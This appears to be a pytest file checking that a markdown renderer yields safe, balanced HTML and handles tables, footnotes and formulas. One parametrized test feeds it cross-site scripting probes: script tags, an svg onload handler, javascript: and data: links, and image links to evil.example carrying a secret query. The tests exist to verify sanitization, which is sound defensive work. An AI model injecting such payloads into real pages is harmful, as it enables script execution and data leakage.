"""Markdown becomes markup that shows the same words and can neither load nor run anything."""

import html
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.web.render.html import tag
from app.web.render.markdown import clean, render, render_inline, with_notes
from app.web.render.quotes import highlight
from tests.app.web.page_support import Reader

PIECES = [
    *"*_`[]()<>!\\a",
    "**",
    "```\n",
    "](",
    "http://e.x/",
    "javascript:",
    "b c",
    "\n",
    "\n\n",
    "- ",
    "1. ",
    "# ",
    "> ",
    "&amp;",
    "    ",
]
PIECES += ["| a | b |\n|---|---|\n", "[1]", "<script>"]
SOURCES = st.lists(st.sampled_from(PIECES), max_size=25).map("".join)


def test_structure() -> None:
    markup = render(
        "# Title\n\n- a **b**\n- `c < d`\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n3. three\n\n```py\nif a < b:\n    pass\n```\n"
    )
    assert "<h3>Title</h3>" in markup
    assert '<ol start="3">' in markup
    assert "<code>if a &lt; b:\n    pass</code>" in markup
    assert '<th scope="col">x</th>' in markup


@pytest.mark.parametrize(
    "source",
    [
        "![x](https://evil.example/?q=secret)",
        "![x][r]\n\n[r]: https://evil.example/x.png",
        '<img src="https://evil.example/x.png">',
        "<script>alert(1)</script>",
        '<div style="background:url(https://evil.example)">x</div>',
        "<svg onload=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,AAAA)",
        "<javascript:alert(1)>",
    ],
)
def test_nothing_loads_or_runs(source: str) -> None:
    read = Reader(render(source))
    names = {name for name, _ in read.elements}
    assert not names & {"img", "script", "svg", "div", "style", "iframe"}
    for attributes in read.named("a"):
        assert (attributes.get("href") or "").startswith(("http://", "https://", "mailto:"))


@given(SOURCES)
def test_any_source_gives_balanced_listed_markup(source: str) -> None:
    read = Reader(render(clean(source)))
    assert not read.unbalanced
    for name, attributes in read.elements:
        assert name not in ("img", "script")
        assert not any(key.startswith("on") or key in ("src", "style") for key in attributes)


def test_dollars_are_dollars() -> None:
    assert Reader(render("It costs $5, then $10.")).text.strip() == "It costs $5, then $10."


def test_an_image_is_its_description() -> None:
    assert render_inline("see ![the plot](http://x.y/z.png) here") == "see the plot here"


def test_only_known_addresses_can_be_followed() -> None:
    markup = render(
        "[a](https://known.example/) [b](https://evil.example/?q=1) <https://evil.example/>",
        links={"https://known.example/"},
    )
    read = Reader(markup)
    assert [attributes["href"] for attributes in read.named("a")] == ["https://known.example/"]
    assert "https://evil.example/?q=1" in read.text
    assert read.named("a")[0]["target"] == "_blank"


def test_marks_become_footnotes_only_where_they_are_marks() -> None:
    text = with_notes("So.[1] `x[1]` and [2] stays, \\[1\\] too.", {1})
    markup = render(text, note=lambda number: tag("sup", str(number)))
    assert markup == "<p>So.<sup>1</sup> <code>x[1]</code> and [2] stays, [1] too.</p>"


def test_private_characters_of_the_source_are_no_marks() -> None:
    assert Reader(render(clean("a\ue000b\ue105c"))).text == "a\ufffdb\ufffdc"


@pytest.mark.parametrize(
    ("text", "formulas"),
    [
        ("It is $x_1 + y_1$ and $$z$$.", ["x_1 + y_1", "z"]),
        ("$$\nE = mc^2\n$$", ["E = mc^2"]),
        ("\\begin{align}\na &= b\n\\end{align}", ["\\begin{align}\na &= b\n\\end{align}"]),
        ("It costs $5 to $10, over $50M and $20B.", []),
        ("`$x$` and \\$y\\$ in $HOME", []),
        ("| a |\n|---|\n| $x$ |", ["x"]),
        ("$\\sqrt\\[3\\]{x}$", ["\\sqrt[3]{x}"]),
    ],
)
def test_formulas_are_written_as_their_source(text: str, formulas: list[str]) -> None:
    markup = render(text)
    found = re.findall(r'<code class="fn-formula"[^>]*>(.*?)</code>', markup, re.S)
    assert list(map(html.unescape, found)) == formulas


def test_a_formula_in_a_highlighted_span_is_highlighted_as_a_whole() -> None:
    text = "So: $a + b$ it is."
    for start, end in ((0, len(text)), (4, 11), (5, 8)):
        markup = highlight(text, [(start, end)], render)
        assert '<mark><code class="fn-formula">a + b</code></mark>' in markup
